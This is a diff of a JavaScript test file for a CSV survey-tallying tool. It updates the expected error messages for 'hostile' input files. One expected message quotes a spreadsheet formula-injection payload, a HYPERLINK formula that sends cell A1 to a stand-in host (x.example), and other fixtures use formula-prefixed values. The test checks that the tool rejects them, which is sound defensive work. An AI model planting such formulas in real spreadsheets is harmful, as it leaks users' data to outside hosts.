@@ -120,7 +120,8 @@ describe('csq survey tally', () => {
         code: 0,
         responses: 1,
         stderr: [
-          ':2:1 delight: a quote inside a field that does not start with one (put the whole field in double quotes, and double each quote inside it)',
+          // A quote inside a field that does not start with one is text, as spreadsheets read it.
+          ':2:1 delight: expected a rating, a whole number from 1 to 5, found "=HYPERLINK(\\"http://x.example/?\\"&A1;\\"clic…" (the row is skipped)',
           ':3:1 delight: expected a rating, a whole number from 1 to 5, found "+5" (the row is skipped)',
           ':4:2 easy-to-deal: expected a rating, a whole number from 1 to 5, found "-3" (the row is skipped)',
         ],
@@ -141,7 +142,8 @@ describe('csq survey tally', () => {
       },
       'no-survey-columns.csv': { code: 2, stderr: [':1:1 no column of the header is a question of the survey (start from the header of `csq survey make -o survey.csv`)'] },
       'same-question-twice.csv': { code: 2, stderr: [':1:3 column 3 asks the same question (delight) as column 1'] },
-      'header-stray-quote.csv': { code: 2, stderr: [':1:3 a quote inside a field that does not start with one (put the whole field in double quotes, and double each quote inside it)'] },
+      // The column `x"y` names no question: ignored (and named without -q), the rest counted.
+      'header-stray-quote.csv': { code: 0, responses: 1, stderr: [] },
     };
     for (const [name, expected] of Object.entries(cases)) {
       const file = survey('hostile', name);
